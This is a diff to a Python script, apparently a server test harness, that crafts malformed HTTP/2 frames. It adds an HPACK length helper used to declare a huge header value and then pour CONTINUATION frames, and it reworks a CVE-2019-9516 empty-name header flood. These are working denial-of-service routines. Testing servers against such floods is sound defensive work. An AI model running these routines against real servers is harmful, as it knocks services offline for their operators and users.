@@ -19,7 +19,7 @@ DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDO
 END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # An attack ends when the server ends the connection, when it takes no more, or when this much has been sent.
-SECONDS = 3
+SECONDS = 2
 MOST = 64 << 20
 
 
@@ -31,6 +31,14 @@ def request(stream: int, *more, method="GET", path="/", end=True, encoder=None, 
     fields = [(":method", method), (":scheme", "http"), (":authority", "interop.test"), (":path", path), *more]
     block = (encoder or Encoder()).encode(fields)
     return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)
+
+
+def prefixed(number: int) -> bytes:
+    """A length of HPACK (RFC 7541 5.1) in seven bits and what follows them."""
+    octets, number = b"\x7f", number - 127
+    while number > 127:
+        octets, number = octets + bytes([number % 128 + 128]), number // 128
+    return octets + bytes([number])
 
 
 def settings(**values) -> bytes:
@@ -222,7 +230,7 @@ def continuation_of_nothing(port):
 def continuation_of_one_field(port):
     """The same with a field whose value does not end."""
     connection = Connection(port)
-    connection.send(frame(HEADERS, END_STREAM, 1, request(1)[9:] + b"\x00\x06x-long\x7f\x81\xff\xff\xff\x07"))
+    connection.send(frame(HEADERS, END_STREAM, 1, request(1)[9:] + b"\x00\x06x-long" + prefixed(1 << 26)))
     pour(connection, lambda _: frame(CONTINUATION, 0, 1, b"a" * 16384), 4)
     return connection
 
@@ -280,7 +288,8 @@ def empty_headers(port):
 def empty_names(port):
     """CVE-2019-9516: fields without name."""
     connection = Connection(port)
-    pour(connection, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, b"\x00\x00\x00" * 2000), 10)
+    block = b"\x00\x00\x00" * 2000
+    pour(connection, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block), 10)
     return connection
 
 
